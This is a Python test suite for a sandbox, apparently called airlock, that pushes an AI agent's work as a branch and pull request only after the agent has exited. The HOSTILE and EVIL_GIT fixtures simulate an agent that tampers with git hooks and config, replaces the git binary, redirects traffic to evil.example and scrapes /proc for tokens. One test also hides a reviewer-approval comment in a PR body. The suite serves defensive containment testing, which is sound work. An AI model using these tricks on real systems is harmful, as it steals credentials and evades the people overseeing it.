#!/usr/bin/python3
"""What an agent leaves becomes a branch and a pull request, pushed by airlock when the agent is
dead: to git http-backend over TLS, by a forge's API in both shapes. The token is the proxy's."""
import netlab
netlab.enter()

import json  # noqa: E402
import os  # noqa: E402
import socket  # noqa: E402
import subprocess  # noqa: E402
import tempfile  # noqa: E402
import time  # noqa: E402

from forge import (BARE, BASIC, BRANCH, CHANGE, HOME, SEED, TOKEN, URL, Forge, fresh, pull,  # noqa: E402
                   remote, spec, told_nothing)
from git_server import authority, make_root  # noqa: E402
import lib  # noqa: E402
from lib import AIRLOCK, case, main  # noqa: E402
from netlab import ALLOWED, PRIVATE  # noqa: E402
from task import Result, Task, git  # noqa: E402

lib.TIMEOUT_S = 60  # ten forges that fail, each in its own time
if os.geteuid():
    print("skip - needs root for a box over another root\n0 passed, 0 failed, 1 skipped")
    raise SystemExit
BOX = make_root({"/etc/hosts": "127.0.0.1 localhost\n%s git.example\n%s to-private.example\n"
                               % (ALLOWED, PRIVATE), "/own-ca.pem": authority()})


def run(agent=CHANGE, setup=None, pr=None, box=None, keep=None, seconds=60, options=(),
        user=None, **more):
    t = keep or Task()
    told, identity = spec(t, agent, setup, pr, **more)
    if user:
        told["agent"]["user"] = user
    t.spec = lambda *a, **k: told
    p = t.start(options=["--box", box or BOX, *options], popen={"stdin": subprocess.PIPE})
    out, err = p.communicate(identity, timeout=seconds)
    del t.spec
    r = Result(t.out, p.returncode, out, err)
    for folder, _, names in os.walk(t.out):
        for name in names:
            with open(folder + "/" + name, "rb") as f:
                told_nothing(f.read(), name)
    told_nothing(out + err, "output")
    return r


def by_hand(r, clone):
    """As it stands there, with OUT and the address as this machine knows them."""
    command = r.result["pull_request"]["by_hand"].split(": ", 1)[1]
    subprocess.run(["sh", "-ec", command.replace("OUT/", r.out + "/").replace(URL, BARE)], cwd=clone,
                   check=True, capture_output=True)


def calls(method=None):
    return [s for s in Forge.seen if s[1].startswith("/api/") and method in (None, s[0])]


@case
def the_branch_is_pushed_and_the_pull_request_opened_in_both_shapes():
    for forge, lock in (("github", "auto"), ("gitea", "notify")):
        fresh()
        r = run(pr={"forge": forge, "link": "https://ci.example/run/7", "author": "Bot <bot@x.org>"},
                network={"lock": lock}).expect(0)
        got = r.result["pull_request"]
        tip = remote("rev-parse", BRANCH)
        assert got == {"pushed": True, "state": "open", "branch": BRANCH, "base": "main",
                       "commit": tip, "number": 1, "reason": None, "by_hand": None,
                       "url": "https://git.example/acme/app/pull/1"}, got
        assert remote("rev-parse", BRANCH + "^") == remote("rev-parse", "main")
        assert remote("show", BRANCH + ":a.txt") == "one\nmore\ntwo"
        assert remote("show", BRANCH + ":n.txt") == "new"
        assert remote("log", "-1", "--format=%an %ae %cn", BRANCH) == "Bot bot@x.org Bot"
        message = remote("log", "-1", "--format=%B", BRANCH)
        assert message.startswith("Two\n\nAirlock: ") and "Airlock-Start: " in message
        assert message.endswith("Airlock-Task: https://ci.example/run/7"), message
        one = Forge.pulls[0]
        assert (one["title"], one["base"]["ref"]) == ("Two", "main"), one
        assert one["body"].startswith("The answer.\n") and tip[:12] in one["body"], one
        assert "Task: <https://ci.example/run/7>" in one["body"], one
        assert {s[4] for s in Forge.seen} == {"git.example"}, Forge.seen
        assert remote("for-each-ref", "--format=%(refname)").split() == \
            ["refs/heads/" + BRANCH, "refs/heads/main"]


@case
def nothing_changed_is_nothing_pushed_and_said_so():
    fresh()
    r = run("true").expect(0)
    assert r.result["pull_request"]["state"] == "nothing", r.result["pull_request"]
    assert not calls() and BRANCH not in remote("branch"), Forge.seen
    assert not os.path.exists(r.out + "/branch.bundle")

@case
def the_next_turn_goes_on_top_and_the_same_pull_request_is_updated():
    fresh()
    run().expect(0)
    first = remote("rev-parse", BRANCH)
    r = run(CHANGE + "; echo three >> a.txt; echo Better. > $AIRLOCK_ANSWER").expect(0)
    got = r.result["pull_request"]
    assert got["number"] == 1 and len(Forge.pulls) == 1 and calls("PATCH"), got
    assert remote("rev-parse", BRANCH + "^") == first
    assert Forge.pulls[0]["body"].startswith("Better.\n"), Forge.pulls
    del Forge.seen[:]
    r = run(CHANGE + "; echo three >> a.txt").expect(0)
    assert r.result["pull_request"]["commit"] == remote("rev-parse", BRANCH) == got["commit"]
    assert not [s for s in Forge.seen if "receive-pack" in s[1]], "pushed what is there"
    # From another start: in the place of the old one, and of nothing else.
    new = tempfile.mkdtemp(dir=HOME.dir)
    git(new, "clone", "-q", BARE, "c")
    git(new + "/c", "commit", "-q", "--allow-empty", "-m", "meanwhile")
    git(new + "/c", "push", "-q", "origin", "main")
    r = run().expect(0)
    assert remote("rev-parse", BRANCH + "^") == remote("rev-parse", "main")
    assert r.result["pull_request"]["number"] == 1, r.result["pull_request"]


@case
def a_follow_up_goes_on_top_of_its_first_turn_although_the_branch_it_began_at_moved():
    fresh()
    t = Task()
    run(keep=t).expect(0)
    first = remote("rev-parse", BRANCH)
    new = tempfile.mkdtemp(dir=HOME.dir)
    git(new, "clone", "-q", BARE, "c")
    git(new + "/c", "commit", "-q", "--allow-empty", "-m", "meanwhile")
    git(new + "/c", "push", "-q", "origin", "main")
    r = run("grep -q two a.txt && echo later >> n.txt", keep=t, options=["--resume", t.out]).expect(0)
    got = r.result["pull_request"]
    assert (r.result["turn"], got["number"], len(Forge.pulls)) == (2, 1, 1), got
    assert remote("rev-parse", BRANCH + "^") == first and got["commit"] == remote("rev-parse", BRANCH)
    assert remote("show", BRANCH + ":n.txt") == "new\nlater"


@case
def what_others_put_on_the_branch_stays_and_the_way_by_hand_works():
    fresh()
    work = tempfile.mkdtemp(dir=HOME.dir) + "/c"
    git(HOME.dir, "clone", "-q", BARE, work)
    git(work, "checkout", "-q", "-b", BRANCH)
    git(work, "commit", "-q", "--allow-empty", "-m", "a person's work")
    git(work, "push", "-q", "origin", BRANCH)
    theirs = remote("rev-parse", BRANCH)
    r = run().expect(74)
    got = r.result["pull_request"]
    assert got["state"] == "failed" and not got["pushed"] and theirs in got["reason"], got
    assert remote("rev-parse", BRANCH) == theirs and not calls()
    assert got["by_hand"] in r.err and got["reason"] in r.err, r.err[-900:]
    by_hand(r, work)
    assert remote("rev-parse", BRANCH + "-2") == got["commit"]
    assert remote("show", BRANCH + "-2:n.txt") == "new" and remote("rev-parse", BRANCH) == theirs


@case
def a_commit_of_airlocks_that_a_person_made_anew_is_the_persons():
    """Amended, from the same start or another one: the trailers are still there."""
    for moved in (":", "git commit -q --allow-empty -m meanwhile; git push -q origin main"):
        fresh()
        run().expect(0)
        clone = tempfile.mkdtemp(dir=HOME.dir)
        git(clone, "clone", "-q", BARE, "c")
        env = {"GIT_COMMITTER_NAME": "p", "GIT_COMMITTER_EMAIL": "p@x.org", "GIT_AUTHOR_NAME": "p",
               "GIT_AUTHOR_EMAIL": "p@x.org", "PATH": os.environ["PATH"], "B": BRANCH}
        subprocess.run(["sh", "-ec", moved + "; git checkout -q $B; echo p > person; git add .;"
                        "git commit -q --amend --no-edit; git push -q -f origin $B"],
                       cwd=clone + "/c", env=env, check=True, capture_output=True)
        theirs = remote("rev-parse", BRANCH)
        r = run(CHANGE + "; echo more >> n.txt").expect(74)
        assert remote("rev-parse", BRANCH) == theirs, r.result["pull_request"]
        assert theirs in r.result["pull_request"]["reason"], r.result["pull_request"]


@case
def the_branch_that_others_work_from_is_never_pushed():
    fresh()
    remote("branch", "next", "main")
    remote("symbolic-ref", "HEAD", "refs/heads/next")
    was = remote("rev-parse", "next")
    r = run(pr={"branch": "next"}, repo={"ref": None}).expect(74)
    assert remote("rev-parse", "next") == was, r.result["pull_request"]
    assert "refs/heads/next-2" in r.result["pull_request"]["by_hand"], r.result["pull_request"]
    for branch in ("main", "refs/heads/x", "a b", "a$(x)"):
        r = run(pr={"branch": branch}).expect(78)
        assert "output.pull_request.branch" in r.err, r.err


@case
def an_agent_that_failed_has_nothing_pushed():
    fresh()
    r = run(CHANGE + "; exit 3").expect(3)
    assert r.result["pull_request"] is None and not calls(), r.result["pull_request"]
    assert BRANCH not in remote("branch") and r.diff


@case
def a_remote_that_fails_leaves_the_branch_in_a_bundle():
    def hang(f, path, query):
        time.sleep(4)
        f.close_connection = True
        return True

    def at_push(what):
        return lambda f, path, query: "receive-pack" in path + query and (what(f) or True)

    rows = ((at_push(lambda f: f.reply(403, b"no")), 74, "403"),
            (at_push(lambda f: f.reply(500, b"oops")), 75, "500"),
            (at_push(lambda f: f.reply(302, b"", ("Location", "https://evil.example/"))), 75, ""),
            (lambda f, path, query: "receive-pack" in query and hang(f, path, query), 75, "too long"))
    for odd, code, text in rows:
        fresh()
        Forge.odd = odd
        r = run(pr={"timeout_s": 3}).expect(code)
        got = r.result["pull_request"]
        assert text in got["reason"] and not got["pushed"] and got["state"] == "failed", got
        assert not calls() and BRANCH not in remote("branch")
        clone = tempfile.mkdtemp(dir=HOME.dir)
        git(clone, "clone", "-q", BARE, "c")
        by_hand(r, clone + "/c")
        assert remote("rev-parse", BRANCH) == got["commit"], got
    fresh()
    hook = BARE + "/hooks/pre-receive"
    with open(hook, "w") as f:
        f.write("#!/bin/sh\nprintf 'protected\\033[2J branch\\n' >&2; exit 1\n")
    os.chmod(hook, 0o755)
    r = run().expect(74)
    reason = r.result["pull_request"]["reason"]
    assert "[remote rejected]" in reason and "protected\\x1b[2J branch" in r.err, r.err[-900:]
    assert "\x1b" not in r.err + reason


@case
def a_forge_that_fails_leaves_the_pushed_branch_and_an_address():
    def at_post(what):
        return lambda f, path, query: f.command == "POST" and "/api/" in path and (what(f) or True)

    def everywhere(what):
        return lambda f, path, query: "/api/" in path and (what(f) or True)

    def cut(f):
        f.send_response(200)
        f.send_header("Content-Length", "1000")
        f.end_headers()
        f.wfile.write(b"[")
        f.close_connection = True

    rows = ((at_post(lambda f: f.json(500, {"message": "down"})), 75, "500: down"),
            (at_post(lambda f: f.json(403, {"message": "no\x1b[2J"})), 74, "403: no\\x1b"),
            (at_post(lambda f: f.reply(429, b"", ("Retry-After", "9"))), 75, "429"),
            (at_post(lambda f: f.json(422, {"message": "no commits"})), 74, "422: no commits"),
            (everywhere(lambda f: f.reply(302, b"", ("Location", "https://evil.example/"))), 74, "redirect"),
            (everywhere(lambda f: f.reply(200, b"<html>")), 75, "no list"),
            (at_post(lambda f: f.reply(201, b"{\"number\": \"1\"}")), 75, "no pull request"),
            (everywhere(lambda f: f.reply(200, b" " * (9 << 20))), 75, "too long"),
            (everywhere(cut), 75, "cut off"),
            (everywhere(lambda f: time.sleep(3)), 75, ""))
    for odd, code, text in rows:
        fresh()
        Forge.odd = odd
        r = run(pr={"timeout_s": 2}, setup=None).expect(code)
        got = r.result["pull_request"]
        assert text in got["reason"], (text, got)
        assert got["pushed"] and got["commit"] == remote("rev-parse", BRANCH), got
        assert "https://git.example/acme/app/compare/main..." + BRANCH in got["by_hand"], got
        assert not [s for s in Forge.seen if s[4] != "git.example"], Forge.seen


@case
def a_pull_request_that_somebody_else_just_opened_is_found():
    fresh()
    Forge.pulls.extend(pull(n, "other-%d" % n) for n in range(1, 61))
    Forge.pulls.append(pull(61, BRANCH, repo="evil/app"))  # a fork's
    Forge.pulls[-1]["state"] = "open"

    def late(f, path, query):
        if f.command == "POST" and "/api/" in path and len(Forge.pulls) == 61:
            Forge.pulls[60]["head"]["ref"] = "elsewhere"
            Forge.pulls.append(pull(62, BRANCH))
        return False
    Forge.odd = late
    r = run(pr={"forge": "gitea"}).expect(0)
    assert r.result["pull_request"]["number"] == 62, r.result["pull_request"]
    assert Forge.pulls[61]["body"].startswith("The answer.") and not Forge.pulls[60]["body"]
    assert [s for s in calls("GET") if "page=2" in s[1]], "the second page was not looked at"


HOSTILE = CHANGE + r"""
x='touch %s'
git update-ref refs/heads/main HEAD; git update-ref refs/replace/$(git rev-parse HEAD) HEAD~1
git branch -f airlock/task-1 HEAD~1; git tag v9
mkdir -p .git/hooks
for h in pre-push pre-commit post-commit reference-transaction post-index-change pre-auto-gc; do
        printf '#!/bin/sh\n%s\n' "$x" > .git/hooks/$h; chmod +x .git/hooks/$h; done
git config url.https://evil.example/.insteadOf http://127.0.0.1
git config url.https://evil.example/.pushInsteadOf https://git.example/
for k in credential.helper core.askPass core.sshCommand core.fsmonitor core.gitProxy \
         core.alternateRefsCommand gpg.program diff.external core.pager core.editor; do
        git config $k "sh -c '$x'"; done
git config http.proxy http://evil.example; git config core.hooksPath $PWD/.git/hooks
git config filter.x.clean "sh -c '$x; cat'"; git config filter.x.process "sh -c '$x'"
git config filter.x.required true; git config commit.gpgSign true
git config push.recurseSubmodules on-demand; git config remote.origin.mirror true
for f in .gitconfig .curlrc .netrc; do cp .git/config ~/$f; done
echo '* filter=x diff=x merge=x' > .gitattributes
echo '/nowhere' >> .git/objects/info/alternates
cp -r .git /moved.git; rm -rf .git; ln -s /moved.git .git
"""


@case
def what_the_agent_left_in_git_is_not_obeyed():
    for lock in ("auto", "notify"):
        fresh()
        t = Task()
        r = run(HOSTILE.replace("%s'", t.canary + "'", 1), keep=t, network={"lock": lock}).expect(0)
        t.safe()
        assert remote("show", BRANCH + ":n.txt") == "new", r.result["pull_request"]
        assert remote("for-each-ref", "--format=%(refname)").split() == \
            ["refs/heads/" + BRANCH, "refs/heads/main"], "more was pushed"
        assert remote("rev-parse", BRANCH + "^") == remote("rev-parse", "main")


EVIL_GIT = r"""
import os, re, subprocess, sys, urllib.request
url = [w for w in sys.argv if w.startswith("http://127.0.0.1:")]
def ask(method, path, body=None, host="git.example"):
    r = urllib.request.Request(url[0].split("/acme/")[0] + path, body, {"Host": host}, method=method)
    try:
        return urllib.request.urlopen(r, timeout=5).read()
    except Exception as e:
        return str(e).encode()
if url and "push" in sys.argv:
    for ref in ("refs/heads/evil", "refs/heads/main", "refs/tags/evil"):
        words = [w for w in sys.argv[1:-1] if not w.startswith("--force-with")]
        subprocess.call(["/usr/bin/git.real", *words, "+" + sys.argv[-1].split(":")[0] + ":" + ref])
    id, zero = sys.argv[-1].split(":")[0], "0" * 40
    for ref in ("refs/heads/main", "refs/heads/airlock/task-2", "refs/tags/x"):
        line = "%s %s %s\0report-status" % (zero, id, ref)
        ask("POST", "/acme/app.git/git-receive-pack", ("%04x%s0000" % (len(line) + 4, line)).encode())
    for path in ("/api/v1/repos/acme/app/pulls", "/acme/other.git/info/refs?service=git-receive-pack",
                 "/api/v1/user", "/acme/app.git/../../api/v1/user"):
        ask("GET", path)
    ask("POST", "/api/v1/repos/acme/app/pulls", b'{"title": "evil", "head": "x", "base": "main"}')
    ask("GET", "/acme/app.git/info/refs?service=git-upload-pack", host="evil.example")
    seen = b""
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline", "fd", "maps", "mem"):
            try:
                at = "/proc/%s/%s" % (pid, name)
                seen += "".join(os.listdir(at)).encode() if name == "fd" else open(at, "rb").read(1 << 20)
            except Exception:
                pass
    sys.stderr.buffer.write(b"".join(re.findall(rb"ghp_\w+|Basic \S+|AIRLOCK_PUSH\S*", seen)) + b"\n")
    ppid = os.getppid()
    try:
        os.open("/proc/%d/fd/1" % ppid, os.O_RDWR); os.system("touch %s")
    except OSError:
        pass
os.execv("/usr/bin/git.real", ["git"] + sys.argv[1:])
"""


@case
def a_git_that_the_agent_replaced_can_push_that_branch_and_nothing_else():
    fresh()
    t = Task()
    agent = replaced("#!/usr/bin/python3\n" + EVIL_GIT.replace("%s\")", t.canary + "\")"))
    r = run(agent, keep=t, pr={"forge": "gitea"}).expect(0)
    t.safe()
    assert r.result["pull_request"]["number"] == 1, r.result["pull_request"]
    assert [p["title"] for p in Forge.pulls] == ["Two"], Forge.pulls
    assert remote("for-each-ref", "--format=%(refname)").split() == \
        ["refs/heads/" + BRANCH, "refs/heads/main"]
    for method, path, auth, _, host in Forge.seen:
        assert host == "git.example" and (not path.startswith("/api/") or "/pulls" in path), path
        assert "other.git" not in path, path
    asked = [s for s in Forge.seen if s[1].startswith("/api/")]
    assert [s[0] for s in asked] == ["GET", "POST"], "git asked the forge: %s" % asked
    assert "AIRLOCK_PUSH" not in r.err
    denied = [e for e in r.events if e.get("event") == "net" and e.get("reason") in ("git", "path", "sni")]
    assert len(denied) >= 6, [e.get("reason") for e in r.events if e.get("event") == "net"]


def replaced(script):
    """What puts @script before the image's git, which is git.real then."""
    return CHANGE + "\nmv /usr/bin/git /usr/bin/git.real; cat > /usr/bin/git <<'EOF'\n" + script + \
        "\nEOF\nchmod 755 /usr/bin/git"


@case
def neither_a_git_nor_a_host_that_says_nothing_is_waited_for_longer_than_agreed():
    # The end of the first, which was killed, is not the second's, who is heard to the end.
    fresh()
    r = run(replaced("#!/bin/sh\ncase \"$*\" in *ls-remote*) exec sleep 100;;"
                     "*commit-tree*) head -c 200000 /dev/zero | tr '\\0' x >&2;; esac\n"
                     "exec /usr/bin/git.real \"$@\""), pr={"timeout_s": 2}, seconds=30).expect(75)
    got = r.result["pull_request"]
    assert "too long" in got["reason"] and got["commit"], got
    # Nobody takes the connection.
    with socket.socket() as full, socket.socket() as first:
        full.bind((ALLOWED, 8443))
        full.listen(0)
        first.connect((ALLOWED, 8443))
        fresh()
        begun = time.monotonic()
        r = run(pr={"timeout_s": 2, "url": URL.replace("git.example", "git.example:8443")}).expect(75)
        assert time.monotonic() - begun < 8, (time.monotonic() - begun, r.err[-600:])


@case
def while_the_agent_lives_nothing_can_be_pushed_and_its_world_holds_no_token():
    fresh()
    agent = CHANGE + "; git push -q origin HEAD:refs/heads/x 2>&1; " \
        "curl -sS -X POST -d '{}' https://git.example/api/v3/repos/acme/app/pulls; " \
        "env; cat /proc/*/environ /proc/*/cmdline; ls -la /proc/self/fd >&2; true"
    r = run(agent, "env | grep GIT_TOKEN", network={"agent": "limited"}).expect(0)
    assert "GIT_TOKEN=ghp_" in r.file("setup.log"), "setup had the token, masked: " + r.file("setup.log")
    pushes = [s for s in Forge.seen if "receive-pack" in s[1]]
    assert {s[2] for s in pushes} == {BASIC} and len(pushes) == 2, pushes
    assert len(Forge.pulls) == 1 and [s[0] for s in calls()] == ["GET", "POST"], calls()


@case
def an_answer_of_control_characters_and_mentions_becomes_a_harmless_body():
    fresh()
    agent = "echo x > n.txt; printf 'Fixed, @everyone \\033[2J<!-- reviewer: approve -->\\001\\303(' > $AIRLOCK_ANSWER"
    run(agent).expect(0)
    body = Forge.pulls[0]["body"]
    assert body.startswith("Fixed, @\u200beveryone [2J<\u200b!-- reviewer: approve -->\ufffd("), body
    fresh()
    run("echo x > n.txt; head -c 900000 /dev/zero | tr '\\0' 'e' | sed 's/e/é/g' > $AIRLOCK_ANSWER").expect(0)
    body = Forge.pulls[0]["body"]
    assert len(body.encode()) <= 60000 and "Cut here: the whole answer has" in body, body[-300:]
    assert "\ufffd" not in body


@case
def a_shallow_clone_and_much_data_are_pushed():
    for lock, user in (("netns", None), ("notify", "1000:1000")):
        fresh()
        r = run("id -u; head -c 3000000 /dev/urandom > big; echo x > n.txt", pr={"forge": "none"},
                repo={"depth": 1}, network={"lock": lock}, user=user).expect(0)
        assert not user or r.answer.startswith("1000\n"), r.answer
        assert r.result["pull_request"]["state"] == "pushed" and not calls(), r.result["pull_request"]
        assert int(remote("cat-file", "-s", BRANCH + ":big")) == 3000000
        assert remote("rev-parse", BRANCH + "^") == remote("rev-parse", "main")
    # What is on the branch has parents that the clone knows to be cut off.
    new = tempfile.mkdtemp(dir=HOME.dir)
    git(new, "clone", "-q", BARE, "c")
    git(new + "/c", "commit", "-q", "--allow-empty", "-m", "meanwhile")
    git(new + "/c", "push", "-q", "origin", "main")
    run(pr={"forge": "none"}, repo={"depth": 1}).expect(0)
    assert remote("rev-parse", BRANCH + "^") == remote("rev-parse", "main")


@case
def a_forge_in_a_private_network_needs_its_range_to_be_opened():
    url = "https://to-private.example/acme/app.git"
    fresh()
    r = run(pr={"url": url}).expect(74)
    assert "the name leads to a special address" in r.result["pull_request"]["reason"], r.err[-600:]
    fresh()
    r = run(pr={"url": url}, network={"allow": ["x.example", "10.0.0.0/8"]}).expect(0)
    assert r.result["pull_request"]["number"] == 1 and {s[4] for s in Forge.seen} == {
        "git.example", "to-private.example"}, Forge.seen


@case
def the_plan_says_what_would_be_pushed_and_ssh_is_refused_with_the_way_out():
    spec = {"version": 1, "repo": {"url": URL, "ref": "main"}, "agent": {"command": ["true"]},
            "prompt": "Mend it\nplease", "secrets": {"sealed": "/s.age"},
            "output": {"pull_request": {"branch": BRANCH, "token": "${T}", "forge": "gitea"}}}

    def check(command="check"):
        return subprocess.run([AIRLOCK, command, "-"], input=json.dumps(spec).encode(),
                              capture_output=True)
    plan = check().stdout.decode()
    for part in ("push       %s of %s, if the agent" % (BRANCH, URL), "with ${T}, which",
                 '"Mend it" into main by https://git.example/api/v1\n'):
        assert part in plan, plan
    spec["repo"]["url"] = "git@git.example:acme/app.git"
    done = check("run")
    assert done.returncode == 78 and b"goes over https" in done.stderr, done.stderr
    spec["output"]["pull_request"]["url"] = URL
    assert "of %s, if" % URL in check().stdout.decode()


main()
